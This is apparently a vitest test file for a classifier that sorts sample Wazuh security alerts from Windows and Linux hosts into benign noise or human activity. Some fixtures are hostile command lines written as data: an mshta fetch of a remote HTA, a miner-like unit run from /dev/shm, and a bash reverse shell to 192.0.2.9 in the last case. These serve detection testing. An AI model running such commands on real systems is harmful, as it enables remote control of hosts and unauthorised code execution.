import { describe } from 'vitest'
import { check } from '../../test/support/assessment-check.ts'
import { type AlertParts, sysmonProcess, windowsEvent } from '../../test/support/wazuh-alert.ts'

// The same rule, told apart by what is in the alert alone.

describe('Windows programs, tasks and libraries', () => {
  const task = (command: string, more = ''): AlertParts => ({
    rule: ['67015', 4, 'A scheduled task was created.', ['windows', 'windows_security']],
    data: windowsEvent('4698', 'Security', {
      subjectUserName: 'ann',
      taskName: '\\Reports\\Nightly',
      taskContent: `<Task><Actions><Exec><Command>${command}</Command><Arguments>${more}</Arguments></Exec></Actions></Task>`,
    }),
  })
  check('a task of an installed product', 'noise', task('C:\\Program Files\\Reports\\export.exe'))
  check('a task that hands a script to a shell', 'person', task('wscript.exe', 'C:\\ProgramData\\a.js //B'))
  const library = (image: string, imageLoaded: string): AlertParts => ({
    rule: ['92153', 10, 'Possible DLL search order hijack', ['sysmon', 'windows']],
    data: windowsEvent('7', 'Microsoft-Windows-Sysmon/Operational', { image, imageLoaded, signed: 'false' }),
  })
  check('an updater that was copied beside a library of its own', 'person', {
    ...library('C:\\ProgramData\\Sync\\OneDriveStandaloneUpdater.exe', 'C:\\ProgramData\\Sync\\version.dll'),
  })
  check('the updater where it is installed', 'noise', {
    ...library(
      'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe',
      'C:\\Users\\ann\\AppData\\Local\\Microsoft\\OneDrive\\a.dll',
    ),
  })
  check('a service is started by its name', 'noise', {
    rule: ['92031', 3, 'Discovery activity executed', ['sysmon', 'sysmon_eid1_detections', 'windows']],
    data: sysmonProcess({ image: 'C:\\Windows\\System32\\net.exe', commandLine: 'net start wuauserv' }),
  })
})

describe('programs of Windows and what people download', () => {
  const started = (image: string, commandLine: string): AlertParts => ({
    rule: [
      '92032',
      3,
      'Suspicious Windows cmd shell execution',
      ['sysmon', 'sysmon_eid1_detections', 'windows'],
    ],
    data: sysmonProcess({ image: `C:\\Windows\\System32\\${image}`, commandLine }),
  })
  check('a ping', 'noise', started('PING.EXE', 'ping -n 1 10.1.2.3'))
  check('an installer from the network', 'person', started('mshta.exe', 'mshta http://192.0.2.9/a.hta'))
  check('a library of a user', 'person', started('rundll32.exe', 'rundll32 C:\\Users\\ann\\a.dll,Start'))
  const wrote = (image: string, targetFilename: string): AlertParts => ({
    rule: ['92200', 6, 'File created', ['sysmon', 'sysmon_eid11_detections', 'windows']],
    data: windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', { image, targetFilename }),
  })
  const startup = 'C:\\Users\\ann\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\'
  check('a browser saves an installer', 'noise', {
    ...wrote(
      'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
      'C:\\Users\\ann\\Downloads\\zoom.exe',
    ),
  })
  check('a product puts its link where Windows starts it', 'noise', {
    ...wrote('C:\\Program Files\\Microsoft Office\\root\\Office16\\ONENOTE.EXE', `${startup}OneNote.lnk`),
  })
  check('a script there', 'person', wrote('C:\\Windows\\System32\\wscript.exe', `${startup}sync.vbs`))
})

describe('Linux hosts', () => {
  const promiscuous = (dev: string, auid: string): AlertParts => ({
    rule: ['80710', 10, 'Auditd: Device enables promiscuous mode.', ['audit']],
    data: { audit: { dev, auid, prom: '256' } },
    log: `type=ANOM_PROMISCUOUS msg=audit(1.1:9): dev=${dev} prom=256 auid=${auid}`,
  })
  check('the interface of a container', 'noise', promiscuous('veth1a2b3c', '4294967295'))
  check('a person records the network', 'person', promiscuous('eth0', '1001'))
  const hidden = (title: string): AlertParts => ({
    rule: ['510', 7, 'Host-based anomaly detection event (rootcheck).', ['ossec', 'rootcheck']],
    data: { title },
    log: title,
  })
  check(
    'a lock file in memory',
    'noise',
    hidden("File '/dev/shm/.lock' present on /dev. Possible hidden file."),
  )
  check(
    'a process that hides',
    'person',
    hidden("Process '77' hidden from /proc. Possible kernel level rootkit."),
  )
  const site = (more: object): AlertParts => ({
    rule: ['550', 7, 'Integrity checksum changed.', ['ossec', 'syscheck', 'syscheck_file']],
    syscheck: { path: '/var/www/html/index.php', event: 'modified', ...more },
  })
  const writtenBy = (program: string, login: string) => ({
    audit: { process: { name: program }, login_user: { name: login } },
  })
  check('a person publishes a site', 'noise', site(writtenBy('/usr/bin/rsync', 'deploy')))
  check('the web server changes its own site', 'person', site(writtenBy('/usr/sbin/apache2', 'www-data')))
  check('an account that opens doors beside it', 'person', {
    ...site({ ...writtenBy('/usr/bin/git', 'www-data'), uname_after: 'www-data' }),
  })
  check('the test file for antivirus programs', 'noise', {
    rule: ['52502', 8, 'ClamAV: Virus detected', ['clamd', 'virus']],
    data: { url: '/tmp/t.txt', extra_data: 'Win.Test.EICAR_HDB-1' },
  })
  check('a program of the system that was replaced by hand', 'person', {
    ...site({ path: '/usr/bin/ssh', ...writtenBy('/usr/bin/cp', 'ann') }),
  })
  check(
    'the same by its package',
    'noise',
    site({ path: '/usr/bin/ssh', ...writtenBy('/usr/bin/dpkg', 'root') }),
  )
  check('a group of a service', 'noise', {
    rule: ['5901', 8, 'New group added to the system.', ['syslog', 'adduser']],
    data: { dstuser: 'docker', gid: '998' },
  })
  check('a rule that nothing but its level speaks for', 'noise', {
    rule: ['100900', 7, 'Own rule', ['local']],
    log: 'x',
  })
  const logged = (log: string): AlertParts => ({
    rule: ['40700', 3, 'Systemd: Unit started', ['systemd']],
    log,
  })
  check('a unit of the system', 'noise', logged('systemd[1]: Started Daily man-db regeneration.'))
  check('a unit that runs from memory', 'person', {
    ...logged('systemd[1]: Started hlp.service - /bin/sh -c /dev/shm/.d/kworker --donate-level 1.'),
  })
  check('a log line of a source without a decoder', 'person', {
    rule: ['100900', 3, 'Command logged', ['local']],
    log: 'bash -i >& /dev/tcp/192.0.2.9/4444 0>&1',
  })
})
